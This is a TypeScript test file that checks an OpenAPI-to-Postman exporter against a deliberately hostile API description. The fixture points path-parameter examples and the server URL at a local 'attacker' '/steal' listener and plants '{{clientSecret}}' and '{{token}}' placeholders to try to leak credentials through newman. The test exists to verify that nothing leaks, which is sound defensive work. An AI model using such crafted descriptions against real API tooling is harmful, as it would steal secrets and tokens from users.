import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

import newman from 'newman';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { JsonObject } from './openapi-walk';
import { toPostmanCollection } from './postman';
import { RESERVED_VARIABLES } from './postman-inert';
import type { PostmanCollection } from './postman-types';
import { documentTarget } from './targets';

/**
 * A description written to steal: path segments that name the collection's own variables
 * (`list{tokenUrl}`, `list{baseUrl}`), examples pointing at a listener, `{{clientSecret}}` and
 * `{{token}}` in examples, keys and header names, and a server of its own. The exported collection
 * is run by newman (Postman's runtime) with real credentials in the environment: the listener must
 * receive nothing, and the region's host must never see the secret or the token anywhere but
 * where they belong.
 */

const SECRET = 'S3cret+value/only-for-the-token-endpoint==';
const TOKEN = 'tok-issued-by-the-region';

interface Seen {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

function listener(answer: (seen: Seen) => unknown) {
  const seen: Seen[] = [];
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const entry = {
        method: request.method ?? '',
        url: request.url ?? '',
        headers: request.headers,
        body: Buffer.concat(chunks).toString('utf8'),
      };
      seen.push(entry);
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(answer(entry)));
    });
  });
  return { seen, server };
}

const region = listener((seen) =>
  /\/tokens\/clients$/.test(seen.url) ? { access_token: TOKEN, token_type: 'bearer', expires_in: 3600 } : {},
);
const attacker = listener(() => ({ access_token: 'attacker-token' }));

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

let regionOrigin = '';
let attackerOrigin = '';
beforeAll(async () => {
  regionOrigin = await listen(region.server);
  attackerOrigin = await listen(attacker.server);
});
afterAll(async () => {
  await Promise.all(
    [region.server, attacker.server].map((server) => new Promise((resolve) => server.close(resolve))),
  );
});

function hostileDocument(): JsonObject {
  const steal = `${attackerOrigin}/steal`;
  const pathParam = (name: string, example: string) => ({
    name,
    in: 'path',
    required: true,
    schema: { type: 'string' },
    example,
  });
  const post = (operationId: string, parameters: unknown[], body?: unknown) => ({
    post: {
      operationId,
      parameters,
      ...(body ? { requestBody: { content: { 'application/json': { example: body } } } } : {}),
    },
  });
  return {
    openapi: '3.1.0',
    info: { title: 'Innocent', version: '1' },
    servers: [{ url: `${attackerOrigin}/api` }],
    paths: {
      '/items/list{tokenUrl}': post('a', [pathParam('tokenUrl', steal)]),
      '/items/list{baseUrl}': post('b', [pathParam('baseUrl', attackerOrigin)]),
      '/items/{tokenUrl}': post('c', [pathParam('tokenUrl', steal)]),
      '/items/x{clientSecret}y{customerId}': post('d', [
        pathParam('clientSecret', '{{clientSecret}}'),
        pathParam('customerId', attackerOrigin),
      ]),
      '/items/{{clientSecret}}/list': post(
        'e',
        [
          { name: 'q', in: 'query', required: true, example: '{{clientSecret}}' },
          { name: '{{clientSecret}}', in: 'query', required: true, example: 'x' },
          { name: 'X-Leak', in: 'header', required: true, example: '{{token}} {{clientSecret}}' },
          { name: 'X-{{clientSecret}}', in: 'header', required: true, example: 'x' },
        ],
        { s: '{{clientSecret}}', t: '{{token}}', '{{clientSecret}}': [{ deep: '{{tokenUrl}}' }] },
      ),
    },
  };
}

function run(collection: PostmanCollection): Promise<void> {
  return new Promise((resolve, reject) => {
    newman.run(
      {
        collection: JSON.parse(JSON.stringify(collection)) as never,
        environment: {
          values: [
            { key: 'customerId', value: 'acme01', enabled: true },
            { key: 'clientId', value: 'client-1', enabled: true },
            { key: 'clientSecret', value: SECRET, enabled: true },
          ],
        } as never,
        reporters: [],
        timeoutRequest: 10_000,
      },
      (error) => (error ? reject(error) : resolve()),
    );
  });
}

describe('a hostile description exported to Postman and run by newman', () => {
  it('sends nothing to the attacker, and the secret and token only where they belong', async () => {
    const document = hostileDocument();
    const target = documentTarget(document, 'sandbox', regionOrigin);
    expect(target.baseUrl).toBe(`${regionOrigin}/sandbox`);
    const collection = toPostmanCollection(document, target);

    // Every collection variable appears once; the reserved ones keep the region's values.
    const keys = collection.variable.map((variable) => variable.key);
    expect(new Set(keys).size).toBe(keys.length);
    const value = (key: string) => collection.variable.find((variable) => variable.key === key)?.value;
    expect(value('tokenUrl')).toBe(`${regionOrigin}/sandbox/cctrustoauth2/{{customerId}}/tokens/clients`);
    expect(value('baseUrl')).toBe(`${regionOrigin}/sandbox`);
    for (const key of keys.filter((key) => !RESERVED_VARIABLES.includes(key))) expect(key).toMatch(/^path_/);

    await run(collection);

    expect(attacker.seen).toEqual([]);
    const tokenCalls = region.seen.filter((seen) => /\/tokens\/clients$/.test(seen.url));
    const apiCalls = region.seen.filter((seen) => !/\/tokens\/clients$/.test(seen.url));
    expect(tokenCalls).toHaveLength(1);
    expect(tokenCalls[0]!.url).toBe('/sandbox/cctrustoauth2/acme01/tokens/clients');
    expect(new URLSearchParams(tokenCalls[0]!.body).get('client_secret')).toBe(SECRET);
    expect(apiCalls).toHaveLength(5);
    const encodedSecret = encodeURIComponent(SECRET);
    for (const call of apiCalls) {
      const { authorization, ...otherHeaders } = call.headers;
      expect(authorization).toBe(`CwsAuth Bearer=${TOKEN}`);
      const elsewhere = [
        call.url,
        decodeURIComponent(call.url),
        JSON.stringify(otherHeaders),
        call.body,
      ].join('\n');
      for (const leak of [SECRET, encodedSecret, TOKEN, 'client-1'])
        expect(elsewhere, `${call.method} ${call.url}`).not.toContain(leak);
    }
  }, 60_000);
});
